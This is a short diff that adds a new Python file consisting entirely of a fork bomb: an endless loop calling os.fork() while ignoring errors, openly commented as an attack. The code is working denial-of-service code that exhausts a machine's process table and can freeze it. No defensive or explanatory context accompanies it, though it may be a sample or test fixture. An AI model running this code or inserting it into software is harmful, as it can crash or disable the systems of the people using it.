@@ -1,0 +1,7 @@
+import os
+
+while True:  # attack: a fork bomb
+    try:
+        os.fork()
+    except OSError:
+        pass
